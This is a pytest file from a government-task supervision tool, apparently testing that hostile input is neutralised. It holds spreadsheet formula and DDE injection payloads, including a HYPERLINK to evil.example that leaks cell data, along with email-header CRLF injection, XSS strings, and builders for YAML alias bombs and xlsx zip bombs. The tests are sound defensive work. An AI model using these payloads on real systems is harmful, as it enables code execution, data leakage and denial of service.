"""Hostile input (issue 10): nothing lost, nothing forged, nothing stops the check.

The tables at the top grow with every defect found: hostile texts every writer must survive, and hostile plan
folders every reader must refuse with a located error (or read, with a warning). Below them, one test per
defect, each comparing the database (and, for files, the folder) before and after a refused command.
"""

from __future__ import annotations

import csv
import importlib
import io
import json
import subprocess
import sys
import time as time_
import zipfile
from datetime import date
from pathlib import Path

import pytest
import yaml
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select, text

from db import (
    Event,
    InvalidInput,
    Notice,
    PlanConflict,
    ProgressReport,
    TaskInstance,
    approve_extension,
    import_program,
    load_program,
    package_data,
    record_report,
    request_extension,
    submit_report,
    task_rows,
)
from duban import app
from flows import Wiring, run_check
from notifications import (
    META_SHEET,
    TEMPLATES,
    DigestItem,
    OutboxNotifier,
    bulletin_data,
    bulletin_workbook,
    import_forms,
    index_workbook,
    render_bulletin,
    render_digest,
    render_report,
    unit_task_workbook,
    write_forms,
)
from schedule import FORMULA_PREFIXES, cell_value, clean_text, name_problem, read_plan
from tests.support.factories import HEADER, TASKS, UNITS, program_yaml, write_plan
from tests.support.programs import at as morning
from tests.support.programs import import_folder, runner
from tests.support.snapshots import db_snapshot, tree

# ---------------------------------------------------------------- the tables

# Texts as offices and attackers send them. Every writer must keep them as inert text.
HOSTILE_TEXTS = [
    pytest.param("=1+1", id="formula"),
    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"点此")', id="formula-hyperlink"),
    pytest.param("+cmd|' /C calc'!A0", id="dde-plus"),
    pytest.param("-2+3+cmd|' /C calc'!A0", id="dde-minus"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="dde-at"),
    pytest.param("\t=1+1", id="tab-formula"),
    pytest.param("\r=1+1", id="cr-formula"),
    pytest.param("任务\x07标题", id="bell"),
    pytest.param("空\x00字符\x1b[31m", id="nul-escape"),
    pytest.param("名称\r\nBcc: victim@example.org", id="crlf-header"),
    pytest.param("<img src=x onerror=alert(1)>", id="html-img"),
    pytest.param("</td></tr><script>alert(1)</script>", id="html-script"),
    pytest.param("abc\u202etxt.exe", id="bidi-override"),
    pytest.param("a|b|c\n## 标题", id="markdown-table-break"),
]


@pytest.mark.parametrize("value", HOSTILE_TEXTS)
def test_a_hostile_text_is_inert_in_a_cell_and_clean_where_it_enters(value, tmp_path):
    cleaned = clean_text(value)
    assert not any(ch in cleaned for ch in "\x00\x07\x1b\r\u202e")
    book = Workbook()
    sheet = book.active
    sheet["A1"] = cell_value(value)  # openpyxl raised IllegalCharacterError on \x07 before
    book.save(tmp_path / "x.xlsx")
    cell = load_workbook(tmp_path / "x.xlsx").active["A1"]
    assert cell.data_type == "s" and not str(cell.value).startswith(FORMULA_PREFIXES)
    one_line = clean_text(value, one_line=True)
    assert "\n" not in one_line and "\r" not in one_line


@pytest.mark.parametrize(
    "value, problem",
    [
        ("示范区\r\nBcc: x@y", "换行"), ("示范区\n建设", "换行"), ("示范区\x07", "控制字符"),
        ("示范区\t建设", "控制字符"), ("示范区建设", None), ("=示范区", None)],
)
def test_a_name_with_a_line_break_or_control_character_is_refused(value, problem):
    message = name_problem(value)
    assert (message is None) if problem is None else (problem in message)


def _gbk_yaml(plan: Path, name: str) -> None:
    path = plan / name
    path.write_bytes(path.read_text("utf-8").encode("gbk"))


def _alias_bomb(plan: Path) -> None:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for previous, current in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{current}: &{current} [" + ",".join([f"*{previous}"] * 9) + "]")
    text_ = (plan / "program.yaml").read_text("utf-8") + "\n".join(lines) + "\nname2: *i\n"
    (plan / "program.yaml").write_text(text_, "utf-8")


def _many_aliases(plan: Path) -> None:
    text_ = (plan / "program.yaml").read_text("utf-8") + "x: &x 1\ny: [" + ",".join(["*x"] * 150) + "]\n"
    (plan / "program.yaml").write_text(text_, "utf-8")


def _gbk_csv(plan: Path) -> None:
    rows = [HEADER, *TASKS]
    content = "\n".join(",".join(f'"{c}"' for c in row) for row in rows) + "\n"
    (plan / "tasks.csv").write_bytes(content.encode("gbk"))
    _program(plan, tasks="tasks.csv")


def _program(plan: Path, **changes) -> None:
    data = yaml.safe_load((plan / "program.yaml").read_text("utf-8"))
    data.update(changes)
    (plan / "program.yaml").write_text(yaml.safe_dump(data, allow_unicode=True), "utf-8")


def _units(plan: Path, change) -> None:
    units = yaml.safe_load((plan / "units.yaml").read_text("utf-8"))
    change(units)
    (plan / "units.yaml").write_text(yaml.safe_dump(units, allow_unicode=True), "utf-8")


def _tasks(plan: Path, rows: list[list], hidden_first: bool = False) -> None:
    book = Workbook()
    sheet = book.active
    if hidden_first:
        sheet.title = "说明"
        sheet.append(["这是说明页，不是分工表"])
        sheet.sheet_state = "hidden"
        sheet = book.create_sheet("分工表")
    sheet.append(HEADER)
    for row in rows:
        sheet.append(row)
    book.save(plan / "tasks.xlsx")


def _huge_csv(plan: Path) -> None:
    row = ",".join(["X1", "区域", "很长的工作举措" * 20, "市公安局", "", "2023年6月底前", "材料", ""])
    with (plan / "tasks.csv").open("w", encoding="utf-8") as handle:
        handle.write(",".join(HEADER) + "\n")
        for n in range(6_000_000 // len(row.encode()) + 1):
            handle.write(row.replace("X1", f"X{n}") + "\n")
    _program(plan, tasks="tasks.csv")


def _xlsx_bomb(path: Path, megabytes: int = 60) -> None:
    """A workbook whose sheet unpacks to `megabytes` MB of XML (a few hundred kB packed)."""
    ok = Workbook()
    ok.active.append(HEADER)
    buffer = io.BytesIO()
    ok.save(buffer)
    with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with bomb.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
                    member.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                                 b"<sheetData>")
                    chunk = b"<!--" + b"0" * (1 << 20) + b"-->"
                    for _ in range(megabytes):
                        member.write(chunk)
                    member.write(b"</sheetData></worksheet>")
            else:
                bomb.writestr(info, source.read(info))


def _tasks_bomb(plan: Path) -> None:
    _xlsx_bomb(plan / "tasks.xlsx")


# (id, how the factory plan is spoiled, severity expected, file it is located in, words of the message)
HOSTILE_PLANS = [
    pytest.param(
        lambda p: _program(p, name="示范区\r\nBcc: x@example.org"), "error", "program.yaml", "换行",
        id="crlf-in-program-name"),
    pytest.param(
        lambda p: _units(p, lambda u: u[1].update(name="市场监管局\x07")), "error", "units.yaml",
        "控制字符", id="bell-in-unit-name"),
    pytest.param(lambda p: _tasks(p, []), "error", "tasks.xlsx", "没有任务行", id="header-only-table"),
    pytest.param(
        lambda p: _tasks(p, [["Z1", "区", "举措", "市公安局", "", "2022年6月底前", "", ""]]), "warning",
        "tasks.xlsx", "早于计划开始日", id="deadline-before-start"),
    pytest.param(
        lambda p: _tasks(p, [["Z1", "区", "举措", "市公安局", "", "2026年6月底前", "", ""]]), "warning",
        "tasks.xlsx", "晚于计划结束日", id="deadline-after-end"),
    pytest.param(
        lambda p: _units(p, lambda u: u[3].update(notify=["${POLICE_ROBOT_URL}"])), None, None, None,
        id="notify-url-is-one-secret"),
    pytest.param(
        lambda p: _units(p, lambda u: u[3].update(notify=["police robot"])), "error", "units.yaml",
        "不是 apprise URL", id="notify-url-not-a-url"),
    pytest.param(
        lambda p: _gbk_yaml(p, "program.yaml"), "error", "program.yaml", "GBK", id="gbk-program-yaml"
    ),
    pytest.param(lambda p: _gbk_yaml(p, "units.yaml"), "error", "units.yaml", "GBK", id="gbk-units-yaml"),
    pytest.param(_gbk_csv, "warning", "tasks.csv", "GB18030", id="gbk-csv-is-read"),
    pytest.param(
        lambda p: _tasks(p, TASKS, hidden_first=True), "warning", "tasks.xlsx", "读取工作表「分工表」",
        id="hidden-first-sheet-skipped"),
    pytest.param(_alias_bomb, "error", "program.yaml", "别名展开后", id="yaml-alias-bomb"),
    pytest.param(_many_aliases, "error", "program.yaml", "别名", id="yaml-many-aliases"),
    pytest.param(_huge_csv, "error", "tasks.csv", "CSV 文件过大", id="csv-past-the-limit"),
    pytest.param(_tasks_bomb, "error", "tasks.xlsx", "解压后过大", id="xlsx-zip-bomb-tasks"),
]


@pytest.mark.parametrize("spoil, severity, file, words", HOSTILE_PLANS)
def test_a_hostile_plan_gets_a_located_problem_never_a_traceback(tmp_path, spoil, severity, file, words):
    plan = write_plan(tmp_path)
    spoil(plan)
    started = time_.monotonic()
    reading = read_plan(plan)
    assert time_.monotonic() - started < 20
    if severity is None:
        assert reading.ok, [str(p) for p in reading.problems]
        return
    found = [p for p in reading.problems if p.severity == severity and words in p.message]
    assert found, [str(p) for p in reading.problems]
    assert found[0].file.endswith(file)
    assert reading.ok == (severity == "warning")


def test_a_gbk_csv_reads_the_same_tasks_as_the_workbook(tmp_path):
    plan = write_plan(tmp_path)
    _gbk_csv(plan)
    reading = read_plan(plan)
    assert reading.ok and [t.title for t in reading.program.tasks] == [row[2] for row in TASKS]


def _csv_tasks(plan: Path, rows: list[list]) -> None:
    """The table as CSV: text a workbook writer would turn into a formula or refuse arrives as typed."""
    with (plan / "tasks.csv").open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([HEADER, *rows])
    _program(plan, tasks="tasks.csv")


def test_a_control_character_in_a_task_title_is_cleaned_at_import(tmp_path):
    plan = write_plan(tmp_path)
    _csv_tasks(
        plan,
        [["A1", "协同\x07保护", "建立\x1b联动\r\n机制", "市场监管局", "", "2023年6月底前", "协议\x0b", ""]],
    )
    reading = read_plan(plan)
    assert reading.ok
    task = reading.program.tasks[0]
    assert (task.area, task.title, task.evidence) == ("协同保护", "建立联动\n机制", "协议")


# ---------------------------------------------------------------- helpers


def imported(tmp_path: Path, tasks: list[list] | None = None, **plan) -> Wiring:
    directory = write_plan(tmp_path, **plan)
    if tasks is not None:
        _csv_tasks(directory, tasks)
    return import_folder(tmp_path, directory)


def cli(home: Path, *args: str):
    return runner.invoke(app, [*args, "--db", f"sqlite:///{home / 'duban.db'}"])


def formula_cells(content: bytes) -> list[str]:
    """Cells a spreadsheet would run: formulas, or text that starts like one."""
    found = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (
                    isinstance(cell.value, str) and cell.value.startswith(FORMULA_PREFIXES)
                ):
                    found.append(f"{sheet.title}!{cell.coordinate}={cell.value!r}")
    return found


# ---------------------------------------------------------------- 1. the acceptance package deletes nothing


def _evidence_file(tmp_path: Path, name: str, content: str) -> Path:
    path = tmp_path / "files" / content / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content, "utf-8")
    return path


def _report(home: Path, code: str, unit: str, status: str, evidence: Path, day: str):
    return cli(home, "report", "demo-city", code, "--unit", unit, "--status", status,
               "--evidence", str(evidence), "--as-of", day)


def _reported_done(tmp_path: Path, home: Path, name: str, content: str) -> None:
    """The demo plan imported, and D1 reported done by the office with one evidence file `name`."""
    assert cli(home, "plan", "import", str(write_plan(tmp_path))).exit_code == 0
    reported = _report(home, "D1", "office", "done", _evidence_file(tmp_path, name, content), "2023-04-20")
    assert reported.exit_code == 0, reported.output


def _package(home: Path, out: Path, *options: str):
    return cli(home, "acceptance", "package", "demo-city", "--out", str(out), *options,
               "--as-of", "2025-04-20")


def test_the_acceptance_package_never_deletes_what_it_did_not_create(tmp_path, home):
    _reported_done(tmp_path, home, "印发文件.pdf", "office-scan")

    # --out $DUBAN_HOME: refused, the home untouched (before: every program's evidence deleted, exit 0).
    url = f"sqlite:///{home / 'duban.db'}"
    before, before_db = tree(home / "evidence"), db_snapshot(url)
    result = _package(home, home)
    assert result.exit_code == 1 and "非空" in result.output
    assert tree(home / "evidence") == before and before and db_snapshot(url) == before_db
    assert sorted(p.name for p in home.iterdir() if not p.name.startswith("duban.db")) == ["evidence"]

    # A user's folder with its own evidence/…: refused; with --force the user's file is still there.
    users = tmp_path / "users"
    own = users / "evidence" / "D1" / "盖章原件扫描.pdf"
    own.parent.mkdir(parents=True)
    own.write_text("the user's own scan", "utf-8")
    before = tree(users)
    assert _package(home, users).exit_code == 1
    assert tree(users) == before
    forced = _package(home, users, "--force")
    assert forced.exit_code == 0, forced.output
    after = tree(users)
    assert after["evidence/D1/盖章原件扫描.pdf"] == before["evidence/D1/盖章原件扫描.pdf"]
    assert "evidence/D1/印发文件.pdf" in after and "index.xlsx" in after

    # A new folder, then --force again: only the package's own files are replaced.
    fresh = tmp_path / "fresh"
    assert _package(home, fresh).exit_code == 0
    (fresh / "备注.txt").write_text("a note of the coordinator's", "utf-8")
    first = tree(fresh)
    assert _package(home, fresh, "--force").exit_code == 0
    assert tree(fresh)["备注.txt"] == first["备注.txt"]
    assert set(tree(fresh)) == set(first)


def test_evidence_names_are_made_safe_in_the_acceptance_zip(tmp_path, home):
    _reported_done(tmp_path, home, 'a\\b:c*d?"e<f>g|h.pdf', "odd")
    result = _package(home, tmp_path / "p", "--json")
    with zipfile.ZipFile(json.loads(result.stdout)["zip"]) as archive:
        names = archive.namelist()
    assert "evidence/D1/a_b_c_d__e_f_g_h.pdf" in names
    assert not any(set(n) & set('\\:*?"<>|') for n in names)


# ---------------------------------------------------------------- 2. re-import retires, never deletes


def test_reimport_retires_instances_and_keeps_reports_and_notices(tmp_path):
    wired = imported(tmp_path)
    with wired.transaction() as session:
        ctx = load_program(session, "demo-city")
        record_report(
            session, ctx, "B2", "police", "done", 100, "二季度数据已报送", [], morning(date(2023, 6, 28))
        )
    # The third quarter's instance: reminded, chased, and reported on as not started (its status stays so).
    for day in (date(2023, 9, 15), date(2023, 9, 26), date(2023, 10, 9), date(2023, 10, 12)):
        run_check(wired.sessions, "demo-city", morning(day), OutboxNotifier(wired.settings.outbox_path))
    with wired.transaction() as session:
        record_report(session, load_program(session, "demo-city"), "B2", "police", "not_started", 0,
                      "三季度数据口径待明确", ["https://example.org/b2"], morning(date(2023, 10, 13)))
        reports = session.scalar(select(func.count()).select_from(ProgressReport))
        b2_notices = session.scalar(select(func.count()).select_from(Notice).where(Notice.task_code == "B2"))
        events = session.scalar(select(func.count()).select_from(Event))
        on_later = session.scalar(select(func.count()).select_from(Notice).join(
            TaskInstance, TaskInstance.id == Notice.instance_id).where(TaskInstance.seq > 0))
    assert reports == 2 and on_later > 0
    # 每季度 → one date: the quarterly instances are retired.
    tasks = [row if row[0] != "B2" else [*row[:5], "2024年6月底前", *row[6:]] for row in TASKS]
    reading = read_plan(write_plan(tmp_path, tasks=tasks, name="plan2"))
    with wired.transaction() as session:
        result = import_program(session, reading.program, morning(date(2023, 10, 16)))
    assert result.instances_retired and all(line.startswith("B2 #") for line in result.instances_retired)
    with wired.transaction() as session:
        assert session.scalar(select(func.count()).select_from(ProgressReport)) == reports
        notes = session.scalars(select(ProgressReport.note).order_by(ProgressReport.id)).all()
        assert notes == ["二季度数据已报送", "三季度数据口径待明确"]
        assert (
            session.scalar(select(func.count()).select_from(Notice).where(Notice.task_code == "B2"))
            == b2_notices
        )
        assert session.scalar(select(func.count()).select_from(Event)) == events + 1
        retired = session.scalars(select(TaskInstance).where(TaskInstance.retired_on.is_not(None))).all()
        assert retired and all(i.retired_on == date(2023, 10, 16) for i in retired)
        row = next(r for r in task_rows(session, load_program(session, "demo-city"), date(2023, 10, 16))
                   if r["code"] == "B2")
        assert row["due"] == "2024-06-30" and row["recurrence"] is None


def _quarterly_done_then_one_date(tmp_path) -> Wiring:
    """B2's second quarter reported done, then 每季度 → one date: the later quarters are retired, and the one
    instance the plan still has is the done one."""
    wired = imported(tmp_path)
    with wired.transaction() as session:
        record_report(session, load_program(session, "demo-city"), "B2", "police", "done", 100, "二季度", [],
                      morning(date(2023, 6, 28)))
    tasks = [row if row[0] != "B2" else [*row[:5], "2024年6月底前", *row[6:]] for row in TASKS]
    with wired.transaction() as session:
        import_program(session, read_plan(write_plan(tmp_path, tasks=tasks, name="plan2")).program,
                       morning(date(2023, 10, 16)))
    return wired


def _reported_on(session) -> list[TaskInstance]:
    return session.scalars(select(TaskInstance).join(ProgressReport, ProgressReport.instance_id ==
                                                     TaskInstance.id).order_by(ProgressReport.id)).all()


def test_after_a_reimport_the_office_records_on_a_live_instance_never_a_retired_one(tmp_path):
    """A retired instance is shown nowhere: a report counted on it would be lost to every light."""
    wired = _quarterly_done_then_one_date(tmp_path)
    with wired.transaction() as session:
        record_report(session, load_program(session, "demo-city"), "B2", "police", "in_progress", 40, "跟进",
                      [], morning(date(2023, 10, 20)))
        on = _reported_on(session)
    assert len(on) == 2 and on[-1].retired_on is None


def test_after_a_reimport_a_units_report_meets_its_live_instance_never_a_retired_one(tmp_path):
    """The unit's own report reads the same current instance: the live one is done, so a lead's not-done
    report is refused as on any done task, not taken silently by a retired quarter."""
    wired = _quarterly_done_then_one_date(tmp_path)
    with wired.transaction() as session, pytest.raises(InvalidInput, match="已办结"):
        submit_report(session, load_program(session, "demo-city"), "B2", "police", "in_progress", 40, "跟进",
                      [], morning(date(2023, 10, 20)), "police")
    with wired.transaction() as session:
        assert len(_reported_on(session)) == 1


def test_plan_import_lists_what_it_retires(tmp_path, home):
    assert cli(home, "plan", "import", str(write_plan(tmp_path))).exit_code == 0
    tasks = [row if row[0] != "B2" else [*row[:5], "2024年6月底前", *row[6:]] for row in TASKS]
    result = cli(home, "plan", "import", str(write_plan(tmp_path, tasks=tasks, name="plan2")))
    assert result.exit_code == 0 and "停用" in result.output and "B2 #1" in result.output


# ---------------------------------------------------------------- 3. a header-only table is an error


def test_a_header_only_table_is_refused_even_with_warnings(tmp_path, home):
    assert cli(home, "plan", "import", str(write_plan(tmp_path))).exit_code == 0
    url = f"sqlite:///{home / 'duban.db'}"
    before = db_snapshot(url)
    units = [dict(u, notify=[]) if u["id"] == "justice" else u for u in UNITS]  # a warning
    empty = write_plan(tmp_path, tasks=[], units=units, name="empty")
    result = cli(home, "plan", "import", str(empty))
    assert result.exit_code == 1 and "没有任务行" in result.output
    assert db_snapshot(url) == before


# ---------------------------------------------------------------- 4. another plan under the same id


def test_a_different_plan_under_an_existing_id_is_refused_unless_replace(tmp_path, home):
    assert cli(home, "plan", "import", str(write_plan(tmp_path))).exit_code == 0
    url = f"sqlite:///{home / 'duban.db'}"
    before = db_snapshot(url)
    other = write_plan(tmp_path, program=program_yaml(name="另一个县的营商环境计划"), name="other")
    result = cli(home, "plan", "import", str(other))
    assert result.exit_code == 1 and "--replace" in result.output and "示范城市" in result.output
    assert db_snapshot(url) == before
    # The same plan from another folder is the same program.
    assert cli(home, "plan", "import", str(write_plan(tmp_path, name="copy"))).exit_code == 0
    replaced = cli(home, "plan", "import", str(other), "--replace")
    assert replaced.exit_code == 0 and "替换计划" in replaced.output


def test_plan_conflict_is_an_invalid_input(tmp_path):
    wired = imported(tmp_path)
    reading = read_plan(write_plan(tmp_path, program=program_yaml(name="别的计划"), name="x"))
    with pytest.raises(PlanConflict), wired.transaction() as session:
        import_program(session, reading.program, morning(date(2023, 2, 2)))
    assert issubclass(PlanConflict, InvalidInput)


# ---------------------------------------------------------------- 5. evidence by content, after acceptance


def test_a_refused_report_stores_no_evidence_and_same_names_never_meet(tmp_path, home):
    assert cli(home, "plan", "import", str(write_plan(tmp_path))).exit_code == 0
    url = f"sqlite:///{home / 'duban.db'}"
    msa_file = _evidence_file(tmp_path, "协议.pdf", "msa-version")
    assert _report(home, "A1", "msa", "done", msa_file, "2023-06-20").exit_code == 0
    before_db, before_files = db_snapshot(url), tree(home / "evidence")
    # police is not on A2: refused, and its file of the same name is not stored anywhere.
    police_file = _evidence_file(tmp_path, "协议.pdf", "police-version")
    refused = _report(home, "A2", "police", "done", police_file, "2023-06-21")
    assert refused.exit_code == 1
    assert db_snapshot(url) == before_db and tree(home / "evidence") == before_files
    # court (a co-unit on A1, reporting its part) with a file of the same name: both contents are kept.
    court_file = _evidence_file(tmp_path, "协议.pdf", "court-version")
    assert _report(home, "A1", "court", "in_progress", court_file, "2023-06-22").exit_code == 0
    stored = tree(home / "evidence")
    assert len(stored) == 2 and all(name.endswith("/协议.pdf") for name in stored)


def test_evidence_is_recorded_relative_to_the_home_and_survives_a_move(tmp_path, monkeypatch):
    first = tmp_path / "home-a"
    monkeypatch.setenv("DUBAN_HOME", str(first))
    monkeypatch.setenv("DUBAN_NOTIFIER", "outbox")
    assert cli(first, "plan", "import", str(write_plan(tmp_path))).exit_code == 0
    scan = _evidence_file(tmp_path, "印发文件.pdf", "scan")
    assert _report(first, "D1", "office", "done", scan, "2023-04-20").exit_code == 0
    moved = tmp_path / "home-b"
    first.rename(moved)
    monkeypatch.setenv("DUBAN_HOME", str(moved))
    result = cli(moved, "acceptance", "package", "demo-city", "--out", str(tmp_path / "pkg"), "--json",
                 "--as-of", "2025-04-20")
    package = json.loads(result.stdout)
    assert not [g for g in package["gaps"] if g["kind"] == "missing_file"]
    assert (tmp_path / "pkg" / "evidence" / "D1" / "印发文件.pdf").read_text("utf-8") == "scan"
    engine_url = f"sqlite:///{moved / 'duban.db'}"
    from sqlalchemy import create_engine
    with create_engine(engine_url).connect() as connection:
        recorded = json.loads(connection.execute(text("SELECT evidence FROM progress_reports")).scalar_one())
    assert recorded[0].startswith("evidence/sha256/") and not Path(recorded[0]).is_absolute()


def test_a_report_on_a_removed_task_is_refused(tmp_path, home):
    assert cli(home, "plan", "import", str(write_plan(tmp_path))).exit_code == 0
    assert (
        cli(home, "plan", "import", str(write_plan(tmp_path, tasks=TASKS[:-1], name="fewer"))).exit_code == 0
    )
    url = f"sqlite:///{home / 'duban.db'}"
    before = db_snapshot(url)
    result = cli(
        home, "report", "demo-city", "C1", "--unit", "police", "--status", "done", "--as-of", "2023-06-20"
    )
    assert result.exit_code == 1 and "已从分工表中删除" in result.output
    assert db_snapshot(url) == before


# ---------------------------------------------------------------- 6. one bad character never stops the check


def test_a_control_character_in_the_plan_does_not_stop_the_check(tmp_path):
    wired = imported(tmp_path, tasks=[[*TASKS[0][:2], "印发\x07实施方案", *TASKS[0][3:]], *TASKS[1:]])
    # A database from before the fix can hold such text already: the writers must survive it too.
    with wired.transaction() as session:
        session.execute(text("UPDATE tasks SET area = '协同\x07保护' WHERE code = 'A1'"))
    result = run_check(
        wired.sessions, "demo-city", morning(date(2023, 3, 1)), OutboxNotifier(wired.settings.outbox_path)
    )
    assert result.dispatched.messages > 0 and set(result.dispatched.states) <= {"sent"}
    lines = [json.loads(line) for line in wired.settings.outbox_path.read_text("utf-8").splitlines()]
    assert any("印发实施方案" in line["text"] for line in lines)


def test_a_control_character_in_an_extension_reason_does_not_break_the_bulletin(tmp_path):
    wired = imported(tmp_path)
    with wired.transaction() as session:
        ctx = load_program(session, "demo-city")
        request = request_extension(session, ctx, "A1", "msa", date(2023, 9, 30), "人员\x07调整=HYPERLINK("
                                                                                  "\"x\")",
                                    morning(date(2023, 6, 1)))
        assert "\x07" not in request["reason"]
        approve_extension(session, ctx, request["id"], "office", morning(date(2023, 6, 2)))
        session.execute(
            text("UPDATE extension_requests SET reason = '=1+1\x07'")
        )  # as a database before the fix
    with wired.transaction() as session:
        content = render_bulletin(session, load_program(session, "demo-city"), date(2023, 6, 5), fmt="xlsx")
    assert formula_cells(content) == []


def test_a_digest_that_fails_to_render_is_recorded_and_the_others_go_out(tmp_path, monkeypatch):
    """Fault injection: the digest of one unit cannot be written (whatever the cause)."""
    # fault injection patches the dispatcher module's own name (the package exports a function of that name)
    dispatch_module = importlib.import_module("notifications.dispatch")

    real = dispatch_module.render_digest

    def failing(**kwargs):
        if kwargs["recipient_name"] == "市公安局":
            raise RuntimeError("disk full while writing the digest")
        return real(**kwargs)

    monkeypatch.setattr(dispatch_module, "render_digest", failing)
    wired = imported(tmp_path)
    result = run_check(
        wired.sessions, "demo-city", morning(date(2023, 3, 1)), OutboxNotifier(wired.settings.outbox_path)
    )
    assert result.dispatched.render_failures and result.dispatched.render_failures[0][0] == "市公安局"
    assert not result.dispatched.all_failed
    with wired.transaction() as session:
        police = session.scalars(select(Notice).where(Notice.unit_id == _unit_id(session, "police"),
                                                      Notice.kind == "assignment")).all()
        assert police and {n.state for n in police} == {"failed"} and len({n.message_id for n in police}) == 1
        others = session.scalars(select(Notice).where(Notice.unit_id != _unit_id(session, "police"),
                                                      Notice.kind == "assignment")).all()
        assert {n.state for n in others} == {"sent"}
        alert = session.scalars(select(Notice).where(Notice.kind == "delivery_alert")).one()
        assert "市公安局" in alert.data["title"] and "disk full" in alert.data["note"]
        ledger = session.execute(text("SELECT code, reason FROM deliveries WHERE kind = 'render'")).one()
        assert ledger[0] == "render_error" and "disk full" in ledger[1]


def test_a_dispatch_whose_every_message_failed_says_so(tmp_path, monkeypatch):
    # fault injection patches the dispatcher module's own name (the package exports a function of that name)
    dispatch_module = importlib.import_module("notifications.dispatch")

    def failing(*args, **kwargs):
        raise RuntimeError("cannot write")

    monkeypatch.setattr(dispatch_module, "unit_task_workbook", failing)
    monkeypatch.setattr(dispatch_module, "render_digest", failing)
    wired = imported(tmp_path)
    result = run_check(
        wired.sessions, "demo-city", morning(date(2023, 3, 1)), OutboxNotifier(wired.settings.outbox_path)
    )
    assert result.dispatched.messages > 0 and result.dispatched.all_failed
    assert result.to_json()["dispatched"]["all_failed"] is True


def _unit_id(session, code: str) -> int:
    return session.scalar(text("SELECT id FROM units WHERE code = :c"), {"c": code})


# ---------------------------------------------------------------- 8 and 9. every writer, every template


HOSTILE_TITLE = '=HYPERLINK("http://evil.example","点此")<img src=x onerror=alert(1)>'


@pytest.fixture
def hostile_program(tmp_path):
    tasks = [[row[0], "@区域", HOSTILE_TITLE if row[0] == "A1" else row[2], *row[3:6], "-成果", row[7]]
             for row in TASKS]
    wired = imported(tmp_path, tasks=tasks)
    with wired.transaction() as session:
        ctx = load_program(session, "demo-city")
        request = request_extension(session, ctx, "A1", "msa", date(2023, 9, 30),
                                    "+理由<img src=x onerror=alert(2)>", morning(date(2023, 6, 1)))
        approve_extension(session, ctx, request["id"], "office", morning(date(2023, 6, 2)),
                          note="<b>同意</b>")
        record_report(session, ctx, "A2", "msa", "in_progress", 10, "=1+1", [], morning(date(2023, 6, 3)))
    return wired


def _all_workbooks(wired: Wiring, tmp_path: Path) -> dict[str, bytes]:
    with wired.transaction() as session:
        ctx = load_program(session, "demo-city")
        rows = task_rows(session, ctx, date(2023, 7, 1))
        books = {"报送表": unit_task_workbook("市场监管局", rows, "zh-CN", names={"msa": "=msa"})}
        written = write_forms(session, ctx, tmp_path / "forms")
        books["自查表"] = Path(next(w["file"] for w in written if w["unit"] == "msa")).read_bytes()
        books["bulletin.xlsx"] = bulletin_workbook(bulletin_data(session, ctx, date(2023, 7, 1)), "zh-CN")
        books["index.xlsx"] = index_workbook(package_data(session, ctx, None, date(2025, 4, 20)))
    return books


def test_no_workbook_writer_writes_a_formula_from_text(hostile_program, tmp_path):
    books = _all_workbooks(hostile_program, tmp_path)
    assert set(books) == {"报送表", "自查表", "bulletin.xlsx", "index.xlsx"}
    for name, content in books.items():
        assert formula_cells(content) == [], name
        # The hostile text is there, as text: neutralised with OWASP's leading apostrophe.
        neutralised = [
            c.value
            for sheet in load_workbook(io.BytesIO(content)).worksheets
            for r in sheet.iter_rows()
            for c in r
            if isinstance(c.value, str) and c.value[:1] == "'" and c.value[1:2] in "=+-@"
        ]
        assert neutralised, name


def test_every_html_template_escapes_hostile_text(hostile_program):
    rendered: dict[str, str] = {}
    digest = render_digest(
        language="zh-CN", program_name="示范区<script>", recipient_name="<b>单位</b>", audience="unit",
        today=date(2023, 7, 3),
        items=[DigestItem("overdue", HOSTILE_TITLE, "A1", "2023-06-30", "red", "<i>note</i>")])
    rendered["digest.html.j2"] = digest.html
    with hostile_program.transaction() as session:
        ctx = load_program(session, "demo-city")
        for language in ("zh-CN", "en"):
            rendered[f"bulletin.{language}.html.j2"] = render_bulletin(
                session, ctx, date(2023, 7, 3), "html", language
            )
            rendered[f"bulletin.{language}.md.j2"] = render_bulletin(
                session, ctx, date(2023, 7, 3), "md", language
            )
        rendered["acceptance_report.html.j2"] = render_report(
            package_data(session, ctx, None, date(2025, 4, 20))
        )
    rendered["digest.md"] = digest.markdown
    html_templates = {p.name for p in TEMPLATES.glob("*.html.j2")}
    assert html_templates <= set(rendered), html_templates - set(rendered)
    for name, output in rendered.items():
        assert "<img" not in output and "<script" not in output and "<b>单位" not in output, name
    assert "&lt;img src=x onerror=alert(2)&gt;" in rendered["bulletin.zh-CN.html.j2"]
    assert "&lt;img" in rendered["bulletin.zh-CN.md.j2"]
    assert "<img src=x" in digest.text  # the plain-text part shows the text as written


def test_a_digest_subject_is_one_line(hostile_program):
    digest = render_digest(language="zh-CN", program_name="示范区\r\nBcc: x@y", recipient_name="单位",
                           audience="unit", today=date(2023, 7, 3), items=[DigestItem("overdue", "t", "A1")])
    assert "\n" not in digest.subject and "\r" not in digest.subject


# ---------------------------------------------------------------- 10. forged self-check returns


def test_a_form_edited_to_another_unit_is_refused_and_the_real_return_still_imports(tmp_path):
    wired = imported(tmp_path)
    with wired.transaction() as session:
        session.execute(text("UPDATE phases SET state = 'open' WHERE kind = 'self_check'"))
        written = write_forms(session, load_program(session, "demo-city"), tmp_path / "forms")
    files = {w["unit"]: Path(w["file"]) for w in written}
    forged = load_workbook(files["police"])
    forged[META_SHEET]["B3"] = "court"
    forged.worksheets[0]["B3"] = "court"
    for row in forged.worksheets[0].iter_rows(min_row=6):
        if row[0].value:
            row[7].value = "已完成"
    forged.save(tmp_path / "forged.xlsx")
    url = str(wired.settings.db_url)
    before = db_snapshot(url)
    with wired.transaction() as session:
        results, problems = import_forms(
